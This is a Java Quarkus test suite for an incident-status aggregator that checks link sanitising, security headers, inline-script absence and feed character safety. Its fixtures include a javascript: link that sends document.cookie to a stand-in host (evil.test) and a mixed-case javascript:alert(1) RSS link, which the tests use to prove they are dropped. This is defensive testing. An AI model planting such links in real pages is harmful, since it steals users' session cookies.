package dev.incidex.web;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import dev.incidex.catalog.Source;
import dev.incidex.catalog.Vendor;
import dev.incidex.feed.FeedFormat;
import dev.incidex.feed.IndependentReader;
import dev.incidex.incident.Incident;
import dev.incidex.incident.IncidentUpdate;
import dev.incidex.model.IncidentStatus;
import dev.incidex.testing.TestPolls;
import dev.incidex.testing.VendorServerResource;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;

/**
 * Nothing a vendor writes runs in a reader's browser or breaks a feed: links keep only http(s), every
 * response carries the browser protections, the pages hold no inline script or style for the policy
 * to break, and characters XML forbids never reach a feed.
 */
@QuarkusTest
@WithTestResource(VendorServerResource.class)
class ReaderSafetyTest {

    static final String JSON = "application/json";

    @Inject
    TestPolls polls;

    @Test
    void aJavascriptLinkFromAVendorNeverBecomesAClickableLink() {
        // Statuspage's page.url and an RSS <link>, the two ways 152 incident pages got a javascript: link (before).
        String incidents = """
                {"page":{"id":"p","name":"Link Planting","url":"javascript:fetch('//evil.test/'+document.cookie)//"},
                 "incidents":[{"id":"jslink1","name":"Planted link","status":"investigating","impact":"minor",
                   "created_at":"2024-05-01T10:00:00Z","started_at":"2024-05-01T10:00:00Z","resolved_at":null,
                   "incident_updates":[{"id":"u1","status":"investigating","body":"Looking.","display_at":"2024-05-01T10:00:00Z",
                     "created_at":"2024-05-01T10:00:00Z"}],"components":[]}]}""";
        VendorServerResource.server()
                .serve("/linkco/api/v2/incidents.json", 200, JSON, incidents)
                .serve("/linkco/api/v2/scheduled-maintenances.json", 200, JSON, "{\"scheduled_maintenances\":[]}")
                .serve("/linkco/feed.rss", 200, "application/rss+xml", """
                        <?xml version="1.0"?><rss version="2.0"><channel><title>L</title><link>https://l.test</link><description>d</description>
                        <item><title>Feed planted link</title><link> JaVaScRiPt:alert(1)</link><guid>jslink2</guid>
                        <pubDate>Wed, 01 May 2024 11:00:00 GMT</pubDate><description>We are investigating.</description></item>
                        </channel></rss>""");
        polls.pollVendor("linkco");

        List<Incident> stored =
                QuarkusTransaction.requiringNew().call(() -> Incident.<Incident>list("vendor.slug", "linkco"));
        assertThat(stored).hasSize(2).allSatisfy(i -> assertThat(i.vendorUrl).isNull());
        for (Incident i : stored) {
            Document page = Jsoup.parse(given().get("/vendors/linkco/incidents/" + i.id)
                    .then()
                    .statusCode(200)
                    .extract()
                    .asString());
            assertThat(page.select("a[href]"))
                    .allSatisfy(a -> assertThat(a.attr("href").strip().toLowerCase(Locale.ROOT))
                            .doesNotStartWith("javascript")
                            .doesNotStartWith("data:"));
            given().get("/api/incidents/" + i.id)
                    .then()
                    .statusCode(200)
                    .body("sourceUrl", org.hamcrest.Matchers.nullValue());
        }
        assertThat(polls.sources("linkco"))
                .extracting(s -> s.lastWarning)
                .allSatisfy(w -> assertThat(w).contains("was dropped"));
        String feed = given().get("/vendors/linkco/feed.rss")
                .then()
                .statusCode(200)
                .extract()
                .asString();
        assertThat(feed.toLowerCase(Locale.ROOT)).doesNotContain("javascript:");
    }

    @Test
    void everyResponseCarriesTheBrowserProtections() {
        polls.pollVendor("ctrlchars");
        for (String path : List.of(
                "/",
                "/vendors",
                "/vendors/linkco",
                "/search?q=outage",
                "/settings",
                "/watchlists/new",
                "/api/vendors",
                "/api/vendors/nope",
                "/feeds/incidents.rss",
                "/style.css",
                "/no-such-page",
                "/vendors/linkco?from=x",
                "/q/openapi")) {
            Response r = given().redirects().follow(false).get(path);
            assertThat(r.header("Content-Security-Policy"))
                    .as(path)
                    .contains("script-src 'self'")
                    .contains("style-src 'self'")
                    .contains("frame-ancestors 'none'")
                    .contains("object-src 'none'")
                    .doesNotContain("unsafe-inline");
            assertThat(r.header("X-Content-Type-Options")).as(path).isEqualTo("nosniff");
            assertThat(r.header("X-Frame-Options")).as(path).isEqualTo("DENY");
            assertThat(r.header("Referrer-Policy")).as(path).isNotBlank();
        }
        // Watchlist pages keep their stricter Referrer-Policy: their URL is the only key.
        assertThat(given().get("/watchlists/no-such-token").header("Referrer-Policy"))
                .isIn("no-referrer", "same-origin");
    }

    @Test
    void thePagesNeedNoInlineScriptOrStyleSoThePolicyBreaksNothing() {
        String vendorPage =
                given().get("/vendors/linkco").then().statusCode(200).extract().asString();
        List<String> pages = new java.util.ArrayList<>(List.of(
                "/",
                "/vendors",
                "/vendors/linkco",
                "/search?q=link",
                "/settings",
                "/watchlists/new",
                "/no-such-page",
                "/vendors/linkco?from=nonsense"));
        Jsoup.parse(vendorPage).select(".incident-row a.title, a.title").stream()
                .map(a -> a.attr("href"))
                .findFirst()
                .ifPresent(pages::add);
        for (String path : pages) {
            Document page = Jsoup.parse(given().get(path).then().extract().asString());
            assertThat(page.select("script:not([src])"))
                    .as(path + ": inline script")
                    .isEmpty();
            assertThat(page.select("style")).as(path + ": style element").isEmpty();
            assertThat(page.select("[style]")).as(path + ": style attribute").isEmpty();
            for (Element e : page.getAllElements()) {
                for (Attribute a : e.attributes()) {
                    assertThat(a.getKey().toLowerCase(Locale.ROOT))
                            .as(path + ": event handler on <" + e.tagName() + ">")
                            .doesNotStartWith("on");
                }
            }
        }
    }

    @Test
    void charactersXmlForbidsAndUnwritableDatesNeverBreakAFeed() {
        // Through the merge: a vendor's title and text with a control character, a non-character and a lone surrogate.
        String incidents = """
                {"page":{"id":"p","name":"Ctrl","url":"https://status.ctrl.test"},
                 "incidents":[{"id":"ctrl1","name":"Broken\\u0001 feed\\ufffe title","status":"investigating","impact":"minor",
                   "created_at":"2024-05-02T10:00:00Z","started_at":"2024-05-02T10:00:00Z","resolved_at":null,
                   "incident_updates":[{"id":"cu1","status":"investigating","body":"Text with \\u0001, \\ud800 and \\uffff in it.",
                     "display_at":"2024-05-02T10:00:00Z","created_at":"2024-05-02T10:00:00Z"}],"components":[]}]}""";
        VendorServerResource.server()
                .serve("/ctrlchars/api/v2/incidents.json", 200, JSON, incidents)
                .serve("/ctrlchars/api/v2/scheduled-maintenances.json", 200, JSON, "{\"scheduled_maintenances\":[]}");
        polls.pollVendor("ctrlchars");
        Incident merged = QuarkusTransaction.requiringNew().call(() -> {
            Incident i = Incident.<Incident>find("vendor.slug = ?1 and vendorKey = ?2", "ctrlchars", "ctrl1")
                    .singleResult();
            i.updates.size();
            return i;
        });
        assertThat(merged.title).isEqualTo("Broken feed title");
        assertThat(merged.updates.get(0).bodyText).isEqualTo("Text with ,  and  in it.");

        // Rows stored before the merge dropped them (or written by an older version) still hold them.
        QuarkusTransaction.requiringNew().run(() -> {
            Source source = Vendor.findBySlug("ctrlchars").orElseThrow().sources.get(0);
            Incident old = new Incident();
            old.vendor = source.vendor;
            old.source = source;
            old.vendorKey = "old-ctrl";
            old.title = "Old\u0001 row\uffff";
            old.status = IncidentStatus.INVESTIGATING;
            old.detectedAt = Instant.parse("2024-05-03T10:00:00Z");
            old.changedAt = old.detectedAt;
            old.sortAt = old.detectedAt;
            old.persist();
            IncidentUpdate u = new IncidentUpdate();
            u.incident = old;
            u.source = source;
            u.status = IncidentStatus.INVESTIGATING;
            u.postedAt = Instant.parse("2024-05-03T10:00:00Z");
            u.firstSeenAt = u.postedAt;
            u.bodyHtml = "Old\u0002 text \ud800 here";
            u.bodyText = "Old\u0002 text \ud800 here";
            u.persist();
            // A five-digit year, as a misread epoch number once stored: no RFC date can carry it.
            IncidentUpdate far = new IncidentUpdate();
            far.incident = old;
            far.source = source;
            far.status = IncidentStatus.INVESTIGATING;
            far.postedAt = Instant.parse("+12345-01-01T00:00:00Z");
            far.firstSeenAt = u.postedAt;
            far.bodyHtml = "From a misread date.";
            far.bodyText = "From a misread date.";
            far.persist();
        });
        for (String path : List.of(
                "/feeds/incidents.rss",
                "/feeds/incidents.atom",
                "/vendors/ctrlchars/feed.rss",
                "/vendors/ctrlchars/feed.atom")) {
            byte[] body = given().get(path).then().statusCode(200).extract().asByteArray();
            FeedFormat format = path.endsWith("rss") ? FeedFormat.RSS : FeedFormat.ATOM;
            assertThat(IndependentReader.read(format, body)).as(path).isNotEmpty();
        }
    }
}
